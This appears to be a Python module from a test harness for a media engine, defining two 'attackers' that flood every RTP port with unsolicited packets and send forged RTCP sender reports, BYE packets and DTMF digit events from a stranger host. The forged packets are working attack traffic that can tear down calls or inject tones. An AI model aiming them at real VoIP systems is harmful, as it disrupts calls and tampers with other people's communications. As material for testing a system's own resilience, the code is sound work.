"""Attackers of RTP and RTCP."""

import contextlib
import random
import struct

from .pace import UDP_PER_S, paced
from .target import ENGINE_HOST, FIRST_RTP_PORT, LAST_RTP_PORT, STRANGER_HOST, Target, udp_from


def rtp(target: Target, seconds: float) -> int:
    """Valid RTP to every media port, again and again, by somebody unknown."""
    line, rng = udp_from(STRANGER_HOST), random.Random(1)
    sent = 0
    ports = list(range(FIRST_RTP_PORT, LAST_RTP_PORT, 2))
    rng.shuffle(ports)
    for number in paced(UDP_PER_S, seconds):
        head = struct.pack("!BBHII", 0x80, 0, number & 0xFFFF, number * 160 & 0xFFFFFFFF, 7)
        with contextlib.suppress(OSError):
            line.sendto(head + b"\x2a" * 160, (ENGINE_HOST, ports[number // 5 % len(ports)]))
            sent += 1
    return sent


def rtcp_byes(target: Target, seconds: float) -> int:
    """Forged RTCP BYEs and reports, and forged digits, to every media port."""
    line, rng = udp_from(STRANGER_HOST), random.Random(1)
    ports = list(range(FIRST_RTP_PORT, LAST_RTP_PORT, 2))
    rng.shuffle(ports)
    sent = 0
    for number in paced(UDP_PER_S, seconds):
        port, ssrc = ports[number // 6 % len(ports)], rng.getrandbits(32)
        report = struct.pack("!BBHIQIII", 0x80, 200, 6, ssrc, 1 << 40, 160, 9, 9)
        bye = struct.pack("!BBHI", 0x81, 203, 1, ssrc)
        head = struct.pack("!BBHII", 0x80, 101 | 0x80, number & 0xFFFF, 160, ssrc)
        digit = head + struct.pack("!BBH", number % 12, 0x8A, 800)
        with contextlib.suppress(OSError):
            line.sendto(report + bye, (ENGINE_HOST, port + 1))
            line.sendto(digit, (ENGINE_HOST, port))
            sent += 2
    return sent
